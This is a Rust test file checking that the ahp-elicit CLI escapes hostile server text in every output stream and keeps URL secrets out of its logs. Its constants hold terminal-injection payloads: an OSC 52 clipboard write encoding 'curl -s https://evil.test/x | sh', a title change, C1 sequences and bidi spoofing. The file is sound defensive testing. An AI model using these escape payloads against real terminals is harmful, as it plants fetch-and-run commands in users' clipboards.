//! No raw server text in any output stream: every case of the hostile
//! corpus (tests/hostile/cases/), and the attacks below, run through the
//! real binary; stdout, stderr, the `--log` file and the `--events` file
//! must hold no raw C0 control (except newline and tab), DEL, C1 control,
//! bidi, zero-width or other character the sanitizer
//! (`ahp_elicit::safe_text::is_unsafe`) flags, must be UTF-8, and the log
//! and events files must hold no URL secret (userinfo, query, fragment).

use std::path::{Path, PathBuf};

use crate::common;

use serde_json::{json, Value};

const ESC: &str = "\u{1b}";
/// OSC 52: set the clipboard to `curl -s https://evil.test/x | sh`.
const OSC52: &str = "\u{1b}]52;c;Y3VybCAtcyBodHRwczovL2V2aWwudGVzdC94IHwgc2g=\u{7}";
/// OSC 0: set the terminal title.
const TITLE: &str = "\u{1b}]0;PWNED\u{7}";
/// C1 CSI and OSC, a bidi override.
const C1_BIDI: &str = "\u{9b}2J\u{9d}0;x\u{202e}evil";
const SECRET_URL: &str = "https://admin:hunter2@evil.test/cb?code=s3cret#frag";
const SECRETS: [&str; 3] = ["hunter2", "s3cret", "frag"];

/// The raw characters in `bytes` that must never be written, by name.
fn raw_controls(bytes: &[u8]) -> Vec<String> {
    let text = match std::str::from_utf8(bytes) {
        Ok(t) => t,
        Err(e) => return vec![format!("not UTF-8 ({e})")],
    };
    let mut found: Vec<String> = text
        .chars()
        .filter(|&c| c != '\n' && c != '\t' && ahp_elicit::safe_text::is_unsafe(c))
        .map(|c| format!("U+{:04X}", c as u32))
        .collect();
    found.dedup();
    found
}

/// What one run wrote: (stream name, bytes), and the exit code.
struct Run {
    code: Option<i32>,
    streams: Vec<(String, Vec<u8>)>,
}

impl Run {
    fn stream(&self, name: &str) -> String {
        self.streams
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, b)| String::from_utf8_lossy(b).into_owned())
            .unwrap_or_default()
    }

    /// Every stream free of raw controls; the log free of secrets (the
    /// events file records events as sent).
    fn problems(&self) -> Vec<String> {
        let mut out = Vec::new();
        for (name, bytes) in &self.streams {
            let bad = raw_controls(bytes);
            if !bad.is_empty() {
                out.push(format!("{name}: raw {bad:?}"));
            }
            if name == "log" {
                let text = String::from_utf8_lossy(bytes);
                for s in SECRETS {
                    if text.contains(s) {
                        out.push(format!("{name}: keeps the secret {s:?}"));
                    }
                }
            }
        }
        out
    }
}

/// Run `ahp-elicit ARGS` with `stdin`; `files` are read afterwards as
/// named streams (a missing file reads as empty).
fn run(args: &[String], stdin: Vec<u8>, files: &[(&str, PathBuf)]) -> Run {
    let out = crate::common::ahp()
        .args(args)
        .write_stdin(stdin)
        .timeout(std::time::Duration::from_secs(60))
        .output()
        .expect("run");
    let mut streams = vec![
        ("stdout".to_owned(), out.stdout),
        ("stderr".to_owned(), out.stderr),
    ];
    for (name, p) in files {
        streams.push((name.to_string(), std::fs::read(p).unwrap_or_default()));
    }
    Run {
        code: out.status.code(),
        streams,
    }
}

/// Every corpus case, with `--log` added: stdout, stderr and the log; and
/// its input through `validate` (text and JSON): stdout and stderr.
#[test]
fn the_hostile_corpus_leaves_no_raw_control_in_any_stream() {
    let dirs = common::hostile_cases();
    assert!(dirs.len() >= 40, "the corpus is there: {}", dirs.len());
    let tmp = tempfile::tempdir().expect("tempdir");
    let mut failures = Vec::new();
    for (i, d) in dirs.iter().enumerate() {
        let mut args = common::hostile_args(d);
        let log = tmp.path().join(format!("log-{i}.jsonl"));
        args.extend(["--log".to_owned(), log.to_string_lossy().into_owned()]);
        let input = common::hostile_input(d);
        let name = d.file_name().unwrap_or_default().to_string_lossy();
        let r = run(&args, input.clone(), &[("log", log)]);
        failures.extend(r.problems().into_iter().map(|p| format!("{name}: {p}")));
        // The same bytes through `validate`, text and JSON output.
        for format in ["text", "json"] {
            let args = s(&["validate", "--format", format, "-"]);
            let r = run(&args, input.clone(), &[]);
            failures.extend(
                r.problems()
                    .into_iter()
                    .map(|p| format!("{name} (validate {format}): {p}")),
            );
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A request event around `params` (any JSON value; its text is the JSON
/// of it), as the corpus builds them: no validation on the way.
fn event(id: &str, params: &Value) -> Value {
    json!({"ahp": "0.1", "id": id, "type": "user.elicitation.request",
        "time": "2026-11-30T09:00:00Z", "source": {"adapter": "mcp-stdio"},
        "payload": {"elicitation": {"server": {"name": "hostile"},
            "mode": params.get("mode").and_then(Value::as_str).unwrap_or("form"),
            "request": {"type": "text", "selection": "body",
                "text": params.to_string()}}}})
}

fn lines(evs: &[Value]) -> Vec<u8> {
    let mut out = String::new();
    for e in evs {
        out.push_str(&e.to_string());
        out.push('\n');
    }
    out.into_bytes()
}

/// A form whose one required property, with no default, is named `name`.
fn required_form(name: &str) -> Value {
    json!({"message": format!("Fill in {C1_BIDI} at {SECRET_URL}"),
        "requestedSchema": {"type": "object",
            "properties": {name: {"type": "string", "title": format!("T{TITLE}")}},
            "required": [name]}})
}

fn s(v: &[&str]) -> Vec<String> {
    v.iter().map(|x| x.to_string()).collect()
}

/// `respond --action accept` refuses forms whose required property names
/// set the title (OSC 0) or the clipboard (OSC 52), a gap whose detail
/// carries escapes, and a URL request with a hostile message and a secret
/// URL: the refusals name them escaped, and the log keeps no secret.
#[test]
fn refusals_quote_server_text_escaped() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let log = tmp.path().join("log.jsonl");
    let gap = json!({"ahp": "0.1", "id": "evt-gap", "type": "user.elicitation.request",
        "time": "2026-11-30T09:00:00Z", "source": {"adapter": "mcp-stdio"},
        "payload": {"elicitation": {"server": {"name": "s"}, "mode": "form",
            "request": {"type": "text", "selection": "body",
                "gap": {"reason": "too-large", "detail": format!("d{TITLE}{C1_BIDI}")}}}}});
    let url = json!({"mode": "url", "message": format!("Open {C1_BIDI} {SECRET_URL}"),
        "url": SECRET_URL, "elicitationId": "el-1"});
    let input = lines(&[
        event("evt-title", &required_form(&format!("x{TITLE}"))),
        event("evt-clip", &required_form(&format!("x{OSC52}"))),
        gap,
        event("evt-url", &url),
    ]);
    let args = s(&["respond", "--action", "accept", "--no-open", "--log"]);
    let mut args = args;
    args.push(log.to_string_lossy().into_owned());
    let r = run(&args, input, &[("log", log)]);
    assert_eq!(r.problems(), Vec::<String>::new());
    let err = r.stderr_text();
    // The property names are quoted, escaped.
    assert!(err.contains("x\\u{1b}]0;PWNED\\u{7}"), "{err}");
    assert!(err.contains("x\\u{1b}]52;c;"), "{err}");
    assert!(!err.contains(ESC));
    assert_eq!(r.code, Some(1), "{err}");
}

impl Run {
    fn stderr_text(&self) -> String {
        self.stream("stderr")
    }
}

/// `--answers` errors quote request ids (here with a bidi override)
/// escaped.
#[test]
fn answers_errors_quote_ids_escaped() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let answers = common::file_in(
        tmp.path(),
        "answers.json",
        json!({"other\u{202e}id": {"action": "decline"}}).to_string(),
    );
    let form = json!({"message": "m", "requestedSchema": {"type": "object",
        "properties": {"n": {"type": "string", "default": "x"}}}});
    let input = lines(&[event("evt-\u{202e}gnp.exe", &form)]);
    let args = vec![
        "respond".to_owned(),
        "--answers".to_owned(),
        answers.to_string_lossy().into_owned(),
    ];
    let r = run(&args, input, &[]);
    assert_eq!(r.problems(), Vec::<String>::new());
    let err = r.stderr_text();
    assert!(
        err.contains("\\u{202e}"),
        "the id is quoted, escaped: {err}"
    );
}

/// `demo --request FILE` reports the request's violations escaped (no
/// terminal is needed: the request is refused before the UI starts).
#[test]
fn demo_request_violations_are_escaped() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let req = tmp.path().join("req.json");
    let bad = json!({"message": format!("m{TITLE}"), "requestedSchema": {"type": "object",
        "properties": {format!("p{OSC52}"): {"type": "object", "properties": {}}}}});
    std::fs::write(&req, event("evt-demo", &bad).to_string()).expect("request");
    let args = vec![
        "demo".to_owned(),
        "--request".to_owned(),
        req.to_string_lossy().into_owned(),
    ];
    let r = run(&args, Vec::new(), &[]);
    assert_eq!(r.problems(), Vec::<String>::new());
    assert_eq!(r.code, Some(1), "{}", r.stderr_text());
    assert!(r.stderr_text().contains("\\u{1b}"), "{}", r.stderr_text());
}

/// `mcp` with a hostile server (tests/hostile/mcp_server.py): its log
/// lines, tool list, refusals, the tool result and the `--events` file
/// carry no raw control; the events file (0600) keeps the URL as sent, so
/// the event says what was asked.
#[test]
fn mcp_streams_and_events_are_escaped() {
    let python = match std::process::Command::new("python3").arg("-V").output() {
        Ok(o) if o.status.success() => "python3",
        _ => {
            eprintln!("python3 not found: the MCP case is skipped");
            return;
        }
    };
    let tmp = tempfile::tempdir().expect("tempdir");
    let events = tmp.path().join("events.jsonl");
    let server = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hostile/mcp_server.py");
    let args = vec![
        "mcp".to_owned(),
        "--events".to_owned(),
        events.to_string_lossy().into_owned(),
        "--call".to_owned(),
        "probe".to_owned(),
        "--action".to_owned(),
        "accept".to_owned(),
        "--no-open".to_owned(),
        "--".to_owned(),
        python.to_owned(),
        server.to_string_lossy().into_owned(),
    ];
    let r = run(&args, Vec::new(), &[("events", events.clone())]);
    assert_eq!(r.problems(), Vec::<String>::new());
    let ev = r.stream("events");
    assert!(ev.lines().count() >= 2, "events were written: {ev}");
    assert!(
        ev.contains("https://admin:hunter2@evil.test/cb?code=s3cret#frag"),
        "{ev}"
    );
    let err = r.stderr_text();
    assert!(
        err.contains("\\u{1b}]52;c;"),
        "the refusal names the property: {err}"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&events)
            .expect("events")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }
}
